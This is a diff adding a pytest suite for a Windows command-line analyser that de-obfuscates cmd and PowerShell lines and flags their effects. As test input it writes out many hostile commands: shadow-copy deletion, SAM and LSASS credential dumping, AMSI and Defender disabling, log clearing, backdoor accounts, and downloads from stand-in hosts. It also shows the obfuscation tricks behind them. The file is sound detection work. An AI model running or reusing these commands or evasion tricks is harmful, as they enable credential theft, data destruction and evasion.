@@ -1,0 +1,275 @@
+"""Windows command lines of intrusions: disguises undone, inner commands reached, effects named."""
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+
+from yett.errors import PolicyError
+from yett.extract import windows
+from yett.extract.budget import Budget
+from yett.extract.facts import Command
+from yett.extract.windows import cmd, powershell, profiles
+
+
+def commands(text: str, **options: str) -> tuple[Command, ...]:
+    return windows.analyse(text, "/c", budget=Budget(milliseconds=5_000), **options).commands  # type: ignore[arg-type]
+
+
+def flags(text: str) -> frozenset[str]:
+    return frozenset().union(*(one.flags for one in commands(text)))
+
+
+def programs(text: str) -> list[str]:
+    return [one.program for one in commands(text)]
+
+
+def encoded(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize(
+    ("text", "program"),
+    [
+        ("cmd /c vssadmin delete shadows /all", "vssadmin"),
+        ('cmd.exe /c "vssadmin delete shadows /all"', "vssadmin"),
+        ("c^m^d /c vs^sad^min delete shadows", "vssadmin"),
+        ("set x=vss&&call %x%admin delete shadows", "vssadmin"),
+        ("%COMSPEC% /c whoami", "whoami"),
+        ("%comspec:~-7,1%%comspec:~-6,1%%comspec:~-5,1% /c whoami", "whoami"),
+        ("start /b reg save HKLM\\SAM out", "reg"),
+        ('cmd /c start "" mshta http://e/x.hta', "mshta"),
+        ("if exist x (vssadmin delete shadows) else (dir)", "vssadmin"),
+        ("for /f %i in (x) do reg save HKLM\\SAM %i", "reg"),
+        ("echo x & whoami & dir", "whoami"),
+        ("@echo off\nrem nothing\nwevtutil cl Security", "wevtutil"),
+        ('schtasks /create /tn a /tr "rundll32 a.dll,Start" /sc onlogon', "rundll32"),
+        ('wmic process call create "powershell -c iex x"', "powershell"),
+        ('sc create x binPath= "cmd /c whoami"', "whoami"),
+        ('forfiles /p c:\\windows /m notepad.exe /c "cmd /c whoami"', "whoami"),
+        ("psexec \\\\host -s cmd /c whoami", "whoami"),
+        ('powershell -c "vssadmin delete shadows"', "vssadmin"),
+        ('powershell -Command "& {whoami}"', "whoami"),
+        (f"powershell -enc {encoded('vssadmin delete shadows')}", "vssadmin"),
+        (f"powershell -e {encoded('whoami')}", "whoami"),
+        (f"powershell -nop -w hidden -EncodedCommand {encoded('whoami')}", "whoami"),
+        (f"powershell.exe -ec {encoded('iex (iwr http://e/a)')}", "iex"),
+        ("iex 'whoami'", "whoami"),
+        ("i`ex ('who'+'ami')", "whoami"),
+        ("& ('who'+'ami')", "whoami"),
+        ("& (\"{1}{0}\" -f 'ami','who')", "whoami"),
+        ("$a='who'; $b='ami'; & ($a+$b)", "whoami"),
+        ("& ([char]119+[char]104+'oami')", "whoami"),
+        ("& (-join ('w','h','o','a','m','i'))", "whoami"),
+        ("& ('wXhoXami'.Replace('X',''))", "whoami"),
+        ("& ('imaohw'[5,4,3,2,1,0] -join '')", "whoami"),
+        (
+            "iex $([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
+            + encoded("whoami")
+            + "')))",
+            "whoami",
+        ),
+        ("Get-Process | % { whoami }", "whoami"),
+        ('Write-Host "$(whoami)"', "whoami"),
+        ("Start-Process cmd -ArgumentList '/c whoami'", "whoami"),
+        ("Start-Process -FilePath reg.exe -ArgumentList 'save HKLM\\SAM x' -Verb runas", "reg"),
+        ("Invoke-Command -ComputerName h -ScriptBlock { whoami }", "whoami"),
+        ("C:\\Windows\\System32\\reg.exe save HKLM\\SAM x", "reg"),
+        ('"C:\\Windows\\System32\\reg.exe" save HKLM\\SAM x', "reg"),
+        ("'x' | Out-File a; whoami", "whoami"),
+        ("echo whoami | cmd", "whoami"),
+        ("echo whoami | powershell -", "whoami"),
+    ],
+)
+def test_the_command_behind_the_disguise_is_found(text: str, program: str) -> None:
+    assert program in programs(text), commands(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "flag"),
+    [
+        ("certutil -urlcache -split -f http://e/a.exe a.exe", "download"),
+        ("bitsadmin /transfer j http://e/a.exe c:\\a.exe", "download"),
+        ("rundll32 comsvcs.dll, MiniDump 624 c:\\l.dmp full", "memory_dump"),
+        ('rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "inline_code"),
+        ("regsvr32 /s /n /u /i:http://e/x.sct scrobj.dll", "proxy_execution"),
+        ('mshta vbscript:Execute("x")', "proxy_execution"),
+        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d c:\\a.exe", "persistence"),
+        (
+            "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run a c:\\a.exe",
+            "persistence",
+        ),
+        (
+            'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /d 1',
+            "defense_tampering",
+        ),
+        ("Set-MpPreference -DisableRealtimeMonitoring $true", "defense_tampering"),
+        ("Add-MpPreference -ExclusionPath C:\\", "defense_tampering"),
+        ("netsh advfirewall set allprofiles state off", "defense_tampering"),
+        ("wevtutil cl Security", "log_tampering"),
+        ("Clear-EventLog -LogName Security", "log_tampering"),
+        ("vssadmin delete shadows /all /quiet", "shadow_copies"),
+        ("wmic shadowcopy delete", "shadow_copies"),
+        ("wbadmin delete catalog -quiet", "destructive"),
+        ("bcdedit /set {default} recoveryenabled no", "boot_config"),
+        ("reg save HKLM\\SAM c:\\sam", "credential_access"),
+        ('ntdsutil "ac i ntds" ifm "create full c:\\x" q q', "credential_access"),
+        ("procdump -ma lsass.exe l.dmp", "memory_dump"),
+        ("cmdkey /list", "credential_access"),
+        ("net user eve P@ss /add", "account_change"),
+        ("net localgroup administrators eve /add", "account_change"),
+        ("New-LocalUser eve -Password $p", "account_change"),
+        ("schtasks /create /tn a /tr c:\\a.exe /sc onlogon", "scheduled_task"),
+        ("sc create a binpath= c:\\a.exe", "service_create"),
+        ("IEX (New-Object Net.WebClient).DownloadString('http://e/a.ps1')", "download"),
+        ("[Reflection.Assembly]::Load($b)", "reflection"),
+        (
+            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+            "defense_tampering",
+        ),
+        ("[Diagnostics.Process]::Start('calc')", "proxy_execution"),
+        ("$x = New-Object -ComObject WScript.Shell; $x.Run('calc')", "com_object"),
+        ("New-Object System.Net.Sockets.TCPClient('1.2.3.4',4444)", "raw_socket"),
+        ("Add-Type -MemberDefinition '[DllImport(\"kernel32\")] VirtualAlloc' -Name x", "native_code"),
+        ("Set-ExecutionPolicy Bypass -Force", "policy_bypass"),
+        ("powershell -ep bypass -w hidden -c x", "policy_bypass"),
+        ("powershell -version 2 -c x", "downgrade"),
+        ("type secret.txt > notes.txt:hidden.txt", "alternate_stream"),
+        (
+            'copy a.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"',
+            "startup_folder",
+        ),
+        ("copy C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\utilman.exe", "accessibility_hijack"),
+        ("net use \\\\h\\C$ /user:a b", "network_logon"),
+        ("psexec \\\\h cmd", "remote_execution"),
+        ("fodhelper.exe", "uac_bypass"),
+        ("Register-WmiEvent -Query x -Action {calc}", "wmi_subscription"),
+        ("netsh interface portproxy add v4tov4 listenport=1 connectport=2", "port_forward"),
+        ("(Get-Item a.txt).CreationTime = '01/01/2001'", "timestomp"),
+        ("echo ransom > README_NOW.txt", "ransom_note"),
+        ("cipher /w:C", "destructive"),
+        ("format D: /q", "destructive"),
+    ],
+)
+def test_what_it_does_is_named(text: str, flag: str) -> None:
+    assert flag in flags(text), (programs(text), sorted(flags(text)))
+
+
+def test_what_can_not_be_known_is_said_to_be_opaque() -> None:
+    dynamic = commands("& $unknown arg")[0]
+    assert dynamic.opaque == ("dynamic_program",)
+    assert "dynamic_program" in dynamic.flags
+    assert windows.analyse("powershell -enc !!!notbase64!!!", "/c", budget=Budget()).program.opaque == (
+        "encoded",
+    )
+
+
+def test_hosts_urls_and_paths_are_handed_on() -> None:
+    found = windows.analyse("curl -o C:\\temp\\a.exe http://evil.example/a.exe", "/c", budget=Budget())
+    assert found.commands[0].hosts == ("evil.example",)
+    assert [one.text for one in found.nested if one.kind == "url"] == ["http://evil.example/a.exe"]
+    assert commands("del C:\\work\\a.txt")[0].deletes == ("C:\\work\\a.txt",)
+
+
+def test_inner_programs_of_other_languages_are_handed_on() -> None:
+    found = windows.analyse("python -c \"import os; os.system('x')\"", "/c", dialect="cmd", budget=Budget())
+    assert [(one.kind, one.text) for one in found.nested] == [("python", "import os; os.system('x')")]
+    found = windows.analyse('bash -c "rm -rf /"', "/c", dialect="cmd", budget=Budget())
+    assert [(one.kind, one.text) for one in found.nested] == [("shell", "rm -rf /")]
+
+
+def test_unknown_programs_say_so() -> None:
+    assert commands("C:\\Tools\\frobnicate.exe --all")[0].flags == frozenset(("profile_unknown",))
+
+
+def test_depth_length_and_control_characters_end_in_opaque() -> None:
+    assert windows.analyse("dir " * 10_000, "/c", budget=Budget()).program.opaque == ("too_long",)
+    assert windows.analyse("dir\0/s", "/c", budget=Budget()).program.opaque == ("control_char",)
+    assert "too_deep" in windows.analyse("cmd /c " * 12 + "whoami", "/c", budget=Budget()).program.opaque
+    assert windows.analyse(
+        "(" * 500 + "Get-Item" + ")" * 500, "/c", dialect="powershell", budget=Budget()
+    ).program.opaque
+
+
+@pytest.mark.parametrize(
+    ("line", "words"),
+    [
+        ("echo a b", ("echo", "a", "b")),
+        ('echo "a b"', ("echo", "a b")),
+        ("echo a^&b", ("echo", "a&b")),
+        ("p^i^n^g host", ("ping", "host")),
+        ('"C:\\a b\\c.exe" x', ("C:\\a b\\c.exe", "x")),
+        ("dir>out.txt", ("dir",)),
+        ("dir 2>&1", ("dir",)),
+    ],
+)
+def test_cmd_words(line: str, words: tuple[str, ...]) -> None:
+    assert cmd.lines(line)[0].words == words
+
+
+def test_cmd_separators_and_redirections() -> None:
+    found = cmd.lines("a & b && c | d || e > f.txt\ng")
+    assert [one.words[0] for one in found] == ["a", "b", "c", "d", "e", "g"]
+    assert [one.piped for one in found] == [False, False, False, True, False, False]
+    assert found[4].redirects == ((">", "f.txt"),)
+
+
+def test_most_of_the_atomic_tests_show_a_flag(shared: Path) -> None:
+    rows = [
+        json.loads(line)
+        for line in (shared / "corpus" / "atomic_red_team.jsonl").read_text("utf-8").splitlines()
+    ]
+    rows = [row for row in rows if row["category"].startswith("shell_windows")]
+    texts = [
+        row["arguments"].get("command") or row["arguments"].get("cmd") or row["arguments"].get("input")
+        for row in rows
+    ]
+    assert sum(windows.looks_like(text) for text in texts) / len(texts) > 0.98
+    assert sum(bool(flags(text) - windows.NEUTRAL) for text in texts) / len(texts) > 0.85
+
+
+def test_posix_commands_do_not_look_like_windows(shared: Path) -> None:
+    rows = [
+        json.loads(line)
+        for line in (shared / "corpus" / "tldr_commands.jsonl").read_text("utf-8").splitlines()
+    ]
+    taken = [
+        row
+        for row in rows
+        if any(windows.looks_like(value) for value in row["arguments"].values() if isinstance(value, str))
+    ]
+    assert len(taken) / len(rows) < 0.01, taken
+
+
+@given(text=st.text(alphabet=st.sampled_from(list("abc $(){}[]'\"`|&;,^%!<>@#+=.-:\\/\n0159 ")), max_size=80))
+def test_nothing_makes_the_analysis_raise(text: str) -> None:
+    windows.looks_like(text)
+    for dialect in ("cmd", "powershell"):
+        windows.analyse(text, "/c", dialect=dialect, budget=Budget(milliseconds=5_000))
+
+
+def test_base64_that_is_none_decodes_to_nothing() -> None:
+    assert powershell.decode_base64("!!!") is None
+    assert powershell.decode_base64(encoded("héllo")) == "héllo"
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"programs": [{"names": ["x"], "color": "red"}]},
+        {"programs": [{"names": ["x"], "effects": ["sing"]}]},
+        {"programs": [{"names": ["x"], "rules": [{"when": "(", "flags": []}]}]},
+        {"registry": [{"when": "x", "then": "y"}]},
+        {"colors": []},
+    ],
+)
+def test_a_profile_file_with_a_mistake_does_not_load(tmp_path: Path, entry: dict[str, object]) -> None:
+    (tmp_path / "windows.yaml").write_text(yaml.safe_dump(entry))
+    with pytest.raises(PolicyError):
+        profiles.load(tmp_path)
